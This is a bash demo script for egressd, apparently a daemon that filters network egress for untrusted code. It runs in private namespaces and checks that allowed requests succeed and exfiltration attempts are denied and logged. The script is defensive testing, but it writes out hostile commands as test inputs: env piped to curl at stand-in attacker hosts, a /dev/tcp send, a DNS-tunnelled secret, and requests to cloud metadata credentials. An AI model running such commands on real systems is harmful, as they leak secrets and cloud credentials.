#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# `make demo`: what egressd does, on a terminal, in a private world. Shows in
# order what was allowed, what was denied, why, and where the evidence lies,
# then cleans up. Fails if anything is not as it should be.
TESTS=$(cd "${0%/*}" && pwd)
if [ "$(id -u)" -ne 0 ]; then
	command -v sudo >/dev/null || {
		echo "demo: needs root for network namespaces, and there is no sudo" >&2
		exit 1
	}
	echo "demo: network namespaces need root; asking sudo"
	exec sudo env B="${B:-build}" bash "$TESTS/demo.sh" "$@"
fi
. "$TESTS/lib/world.sh"
world_enter "$TESTS/demo.sh" "$@"
. "$WORLD_LIB/rules.sh"

bold='' dim='' green='' red='' plain=''
if [ -t 1 ] && [ "${TERM:-dumb}" != dumb ]; then
	bold=$'\e[1m' dim=$'\e[2m' green=$'\e[32m' red=$'\e[31m' plain=$'\e[0m'
fi
KEEP=$B/demo
UPS=0 # what was not as it should be

title() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }
row() { printf '  %-38s %s\n' "$1" "$2"; }
cmd() { printf '  %s$ %s%s\n' "$dim" "$*" "$plain"; }
wrong() {
	printf '  %snot as it should be: %s%s\n' "$red" "$*" "$plain"
	UPS=$((UPS + 1))
}
stop() { # REASON: nothing more can be shown
	wrong "$@"
	exit 1
}

ms() { echo $((($(date +%s%N) - $1) / 1000000)); }

# allowed WHAT WANTED COMMAND...: as the sandbox; its output must be WANTED
allowed() {
	local what=$1 want=$2 t0 out
	shift 2
	t0=$(date +%s%N)
	out=$(inside demo "$@" 2>&1)
	printf '  %sallowed%s  %-46s %s  (%s ms)\n' "$green" "$plain" "$what" \
		"$out" "$(ms "$t0")"
	[ "$out" = "$want" ] || wrong "$what: wanted $want"
}

# denied_ WHAT KEY=VALUE... -- COMMAND...: must fail and be in the log so
denied_() {
	local what=$1 t0 st keys=() reason
	shift
	while [ "$1" != -- ]; do
		keys+=("$1")
		shift
	done
	shift
	t0=$(date +%s%N)
	inside demo "$@" >$W/out 2>&1
	st=$?
	t0=$(ms "$t0")
	reason=
	if denied demo "${keys[@]}" && denied_now demo "${keys[@]}" >$W/rec; then
		reason=$($EG get reason <$W/rec)
	fi
	printf '  %sdenied%s   %-46s %s  (%s ms)\n' "$red" "$plain" "$what" \
		"${reason:-no record}" "$t0"
	[ $st -ne 0 ] || wrong "$what went through"
	[ "$t0" -lt 2000 ] || wrong "$what took too long to fail"
	[ -n "$reason" ] || wrong "no record of $what (${keys[*]})"
}

title "egressd: the network a host gives to code it does not trust"
cat <<'T'
  This runs in namespaces of its own with an Internet of its own: a resolver,
  web servers, a collector that would like your secrets, a metadata service.
  Nothing of this machine's network is touched.
T
world_start
host_state >$W/before

title "1. The daemon starts; each role keeps only what its work needs"
cmd "egressd -c egressd.conf"
daemon_start || stop "egressd does not start"
$EG roles $DAEMON_LOG >$W/roles || wrong "$(tail -n 1 $W/roles)"
sed 's/^/  /' $W/roles
sed -n 's/.*notice: ready: /  ready: /p' $DAEMON_LOG

title "2. An orchestrator leases a network for one run"
cmd "egressctl lease --id demo --policy demo --run run-8f2 --ttl 10m"
t0=$(date +%s%N)
lease demo --policy demo --run run-8f2 --ttl 10m || stop "no lease: $(cat $W/lease.demo)"
row "answered after" "$(ms "$t0") ms"
row "namespace" "$(of demo netns)"
row "address, resolver" "$(of demo address), $(of demo dns.0)"
row "the policy allows" "$(sed -n 's/^allow = \([^ ]*\) .*/\1/p' $POLICIES/demo.policy | head -n 3 | paste -sd ' ') ..."

title "3. What the code in it does: its work ..."
export AWS_SECRET_ACCESS_KEY=hunter2
c="curl -sS -m 5 --cacert $CA"
allowed "https://app.demo.example/" "hello from app:443" $c https://app.demo.example/
allowed "https://alias.demo.example/ (two aliases)" "hello from app:443" \
	$c https://alias.demo.example/
allowed "https://k8s.internal.example:6443/ (private)" \
	"hello from internal:6443" $c https://k8s.internal.example:6443/

title "   ... and what it tries"
denied_ "curl -d @env https://collector.evil.example/" reason=dns-denied \
	qname=collector.evil.example -- sh -c "env | curl -sS -m 5 -k --data-binary @- https://collector.evil.example/"
denied_ "curl -d @env https://203.0.113.66/" reason=not-allowed \
	dst=203.0.113.66 dport=443 -- sh -c "env | curl -sS -m 5 -k --data-binary @- https://203.0.113.66/"
denied_ "bash: env > /dev/tcp/203.0.113.66/80" dst=203.0.113.66 dport=80 -- \
	bash -c 'env >/dev/tcp/203.0.113.66/80'
denied_ "a secret in a name, by a public resolver" reason=dns-denied \
	qname=aHVudGVyMg.t.evil.example -- sh -c \
	"$EG dig 203.0.113.8 aHVudGVyMg.t.evil.example | grep NOERROR"
denied_ "the cloud's credentials, 169.254.169.254" reason=metadata -- \
	$c http://169.254.169.254/latest/meta-data/iam/
denied_ "  by a public name that points there" layer=dns reason=metadata -- \
	$c http://meta.rebind.example/
denied_ "the internal network, 10.3.0.10:443" reason=private \
	dst=10.3.0.10 -- $c -k https://10.3.0.10/
denied_ "this host, 192.0.2.10:8022" reason=host dst=192.0.2.10 -- \
	$c http://192.0.2.10:8022/
denied_ "another port of the allowed service" reason=not-allowed \
	dst=198.51.100.80 dport=8443 -- $c http://app.demo.example:8443/

title "4. What arrived at the other side"
for s in collector metadata resolver hostsvc; do
	if served $s >/dev/null; then
		wrong "$s was reached"
	else
		row "$s" "nothing"
	fi
done
if wire_saw 203.0.113.66 >/dev/null; then
	wrong "a packet went to the collector"
else
	row "packets on the wire to the collector" "none"
fi

title "5. Why: the log of the run"
cmd "egressctl denials demo"
ctl denials demo | sed -E 's/^/  /; s/ +hint: (.*)/\n               would be allowed by: \1/'

title "6. The evidence: a record for each denial, a packet for each record"
dir=$(of demo audit)
cmd "ls $dir"
(cd "$dir" && ls -l | awk 'NR > 1 { printf "  %-20s %s bytes\n", $NF, $5 }')
out=$($EG evidence "$dir") || wrong "$out"
row "checked, record by record" "$out"
out=$(ctl --json show demo | $EG law "$dir/denials.jsonl") || wrong "$out"
ctl --json show demo >$W/show
row "denied, by the counters of the kernel" "$($EG total <$W/show), each one logged or counted as suppressed"
cmd "tcpdump -nr denials.pcap"
tcpdump -nr "$dir/denials.pcap" 2>/dev/null | head -n 4 | cut -c1-100 | sed 's/^/  /'

title "7. The run ends"
cmd "egressctl release demo"
path=$(of demo netns)
ctl release demo >/dev/null || wrong "release failed"
[ ! -e "$path" ] || wrong "$path is still there"
[ -s "$dir/manifest.json" ] || wrong "the evidence is not sealed"
row "$path" "gone, for ever"
row "manifest.json" "seals the evidence"
mkdir -p "$KEEP" && cp "$dir"/* "$KEEP"/ && row "a copy for you to look at" "$KEEP"

title "8. Everything is removed"
cmd "egressd --purge"
daemon_stop TERM || wrong "egressd does not end"
out=$("$EGRESSD" -c $CONF --purge 2>&1) || wrong "purge: $out"
host_state >$W/after
if diff $W/before $W/after >$W/diff; then
	row "links, namespaces, rules, routes" "as they were before"
else
	wrong "the host is not as it was: $(head -n 5 $W/diff)"
fi

echo
if [ $UPS -ne 0 ]; then
	printf '%s%d things were not as they should be.%s\n' "$red" $UPS "$plain"
	exit 1
fi
printf '%sEverything was as it should be.%s\n' "$green" "$plain"
